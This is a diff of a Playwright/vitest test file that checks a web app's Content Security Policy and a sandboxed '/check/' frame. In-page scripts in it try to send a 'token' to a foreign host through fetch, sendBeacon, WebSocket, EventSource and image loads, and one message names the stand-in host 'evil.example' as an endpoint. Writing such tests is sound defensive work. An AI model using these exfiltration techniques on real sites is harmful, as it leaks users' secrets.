@@ -1,13 +1,13 @@
 import { createHash } from 'node:crypto'
 import type { BrowserContext, Page } from 'playwright-core'
-import { expect, test } from 'vitest'
+import { expect, onTestFinished, test } from 'vitest'
 import { createAdminClient } from '../lab/admin-client.ts'
 import { admin, refusals } from '../lab/admin-verbs.ts'
 import { type Story, soon } from '../lab/story.ts'
 import { buyButton, connectWallet, goTo } from '../lab/verbs.ts'
 import { fakeState } from '../long/screens/screen-states.ts'
 
-const addresses = ['/', '/ko/', '/e/1/', '/ko/e/1/', '/admin-login', '/admin', '/nowhere']
+const addresses = ['/', '/ko/', '/e/1/', '/ko/e/1/', '/admin-login', '/admin', '/check/', '/nowhere']
 
 /** Console messages of browsers about what the policy stops, and of a page that is told of it. */
 const stopped = [
@@ -135,6 +135,79 @@ export function policy(story: Story): void {
     expect(await ran(page)).toBeUndefined()
   })
 
+  test('A6: a script on a public page sends nothing to a foreign host, and does not reach into the frame that may', async () => {
+    let asked = 0
+    const foreign = Bun.serve({
+      port: 0,
+      fetch: () => {
+        asked++
+        return new Response('', { headers: { 'access-control-allow-origin': '*' } })
+      },
+    })
+    onTestFinished(() => foreign.stop(true))
+    const { page, violated } = await watchPolicy([...stopped, /stranger|cross-origin frame/])
+    for (const path of ['/', '/ko/', '/e/1/', '/terms/']) {
+      await page.goto(story.stack.url + path)
+      const told = await page.evaluate(async (url) => {
+        const sent = (work: () => unknown) =>
+          Promise.resolve()
+            .then(work)
+            .then(Boolean, () => false)
+        const frame = document.createElement('iframe')
+        frame.src = '/check/'
+        await new Promise((resolve) => {
+          frame.addEventListener('load', resolve)
+          document.body.append(frame)
+        })
+        new WebSocket(url.replace('http', 'ws')).close()
+        new EventSource(url).close()
+        new Image().src = url
+        navigator.sendBeacon(url, 'token')
+        return Promise.all([
+          sent(() => fetch(url, { method: 'POST', body: 'token' })),
+          sent(() => fetch(url, { mode: 'no-cors' })),
+          sent(() => frame.contentWindow?.fetch(url)),
+          sent(() => frame.contentDocument?.body),
+        ])
+      }, `http://localhost:${foreign.port}/?token`)
+      expect([path, told]).toEqual([path, [false, false, false, false]])
+    }
+    expect([...new Set(violated)].sort()).toEqual(['connect-src', 'img-src'])
+    expect(asked).toBe(0)
+    // What was asked of it would have come.
+    expect((await fetch(foreign.url)).ok && asked).toBe(1)
+  })
+
+  test('A6: the check has no origin, and answers the page that holds it alone', async () => {
+    const { page } = await watchPolicy()
+    await page.goto(`${story.stack.url}/terms/`)
+    await page.evaluate(async () => {
+      const said: string[] = []
+      Object.assign(window, { said })
+      for (const name of ['held', 'beside']) {
+        const frame = document.createElement('iframe')
+        Object.assign(frame, { name, src: '/check/' })
+        frame.sandbox.add('allow-scripts')
+        const isReady = new Promise((resolve) =>
+          addEventListener('message', ({ source, origin, data }) => {
+            if (source !== frame.contentWindow) return
+            said.push(`${name} ${origin} ${data.kind} ${data.event?.finding ?? ''}`)
+            resolve(undefined)
+          }),
+        )
+        document.body.append(frame)
+        await isReady
+      }
+    })
+    const task = { kind: 'check', task: { proof: 'nonsense', endpoint: 'https://evil.example/' } }
+    const beside = page.frame({ name: 'beside' }) ?? expect.fail('no frame')
+    await beside.evaluate((data) => (parent.frames as never as Window[])[0]?.postMessage(data, '*'), task)
+    await page.evaluate((data) => window.frames[0]?.postMessage(data, '*'), task)
+    await soon(() => page.evaluate(() => (window as never as { said: string[] }).said)).toEqual([
+      ...['held null ready ', 'beside null ready ', 'held null event proofBroken', 'held null done '],
+    ])
+  })
+
   test('S3: every script and style sheet that a page reaches has its hash in the page', async () => {
     const texts = new Map<string, Promise<string>>()
     const read = (path: string) => {
@@ -153,7 +226,7 @@ export function policy(story: Story): void {
       for (const { path } of scan.scanImports(await read(href)))
         await reach(path.replace('./', '/_astro/'), found)
     }
-    for (const path of ['/', '/ko/', '/e/1/', '/admin', '/admin-login']) {
+    for (const path of ['/', '/ko/', '/e/1/', '/admin', '/admin-login', '/check/']) {
       const html = await read(path)
       const map = JSON.parse(/<script type="importmap">(.+?)<\/script>/.exec(html)?.[1] ?? '{}').integrity
       for (const [tag, href = ''] of html.matchAll(
@@ -162,7 +235,7 @@ export function policy(story: Story): void {
         expect([path, href, tag.includes(await hashOf(href))]).toEqual([path, href, true])
       const reached = new Set<string>()
       for (const [href] of html.matchAll(/\/_astro\/[\w.-]+\.js/g)) await reach(href, reached)
-      expect(reached.size).toBeGreaterThan(1)
+      expect(reached.size).toBeGreaterThan(path === '/check/' ? 0 : 1)
       for (const href of reached) expect([path, href, map[href]]).toEqual([path, href, await hashOf(href)])
     }
   })
